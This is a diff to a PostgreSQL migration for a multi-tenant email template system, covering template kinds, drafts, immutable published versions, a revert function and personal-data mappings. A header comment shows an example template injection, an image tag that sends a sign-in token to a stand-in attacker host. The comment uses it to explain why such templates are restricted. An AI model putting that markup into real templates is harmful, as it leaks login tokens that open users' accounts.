@@ -2,8 +2,8 @@
 --
 -- A kind of mail has a name and the variables that its data bring; it comes with the part that
 -- sends it. What is written stands in rows: the platform's are the default of everybody, and a
--- tenant's own come before them. A version never changes once it is published, so that a mail that has to be
--- sent again is the same mail; what changes is which version is current.
+-- tenant's own come before them. A version never changes once it is published, so that a mail that
+-- has to be sent again is the same mail; what changes is which version is current.
 --
 -- Mails of sign-in carry tokens that open the whole platform to whoever has them, and a template
 -- could send them anywhere: <img src="https://evil.example/{{ token }}">. So only the platform
@@ -56,7 +56,7 @@ create table core.templates (
     id uuid not null default gen_random_uuid(),
     template text not null references core.template_kinds (template),
     language text not null,
-    version_id uuid,
+    version_id integer,
     draft_subject text,
     draft_preheader text,
     draft_text text,
@@ -86,7 +86,7 @@ it inherits.';
 
 create table core.template_versions (
     tenant_id uuid not null,
-    id uuid not null default gen_random_uuid(),
+    id integer generated always as identity,
     template_id uuid not null,
     template text not null references core.template_kinds (template),
     language text not null,
@@ -117,7 +117,7 @@ comment on table core.template_versions is
 'What was published, word for word. Versions stay as they are.';
 comment on column core.template_versions.id is
 'Names a version, whichever tenant and language it is of: what a delivery keeps
-as its template_version_id.';
+as its template_version.';
 comment on column core.template_versions.number is 'Counts the versions of a template, from 1.';
 comment on column core.template_versions.preheader is
 'A template of the line that mail programs show beside the subject.';
@@ -449,7 +449,7 @@ language plpgsql security definer set search_path = pg_catalog, pg_temp
 as $$
 declare
     owned constant core.templates := core.own_template(template, language, false);
-    reverted_id uuid;
+    reverted_id integer;
 begin
     if owned.id is null then
         perform core.fail('template.version_unknown');
@@ -533,8 +533,9 @@ select
     template_versions.html,
     template_versions.has_layout,
     template_versions.published_at,
-    case when template_versions.tenant_id <> core.platform_tenant_id()
-        then template_versions.published_by
+    case
+        when template_versions.tenant_id <> core.platform_tenant_id()
+            then template_versions.published_by
     end as published_by
 from core.template_versions;
 
@@ -758,3 +759,14 @@ select core.map_personal(
 select core.map_personal(
     'core.template_versions.published_by', 'user.unique_id', 'published_by is user_id', 'set_null'
 );
+select
+    core.map_not_personal(
+        'Written by migrations.', 'core.template_kinds.description', 'core.template_kinds.links',
+        'core.template_kinds.variables'
+    );
+select
+    core.map_not_personal(
+        'What a tenant writes to anybody; the data about a person come with the delivery.',
+        'core.templates.draft_subject', 'core.templates.draft_text',
+        'core.template_versions.subject', 'core.template_versions.text'
+    );
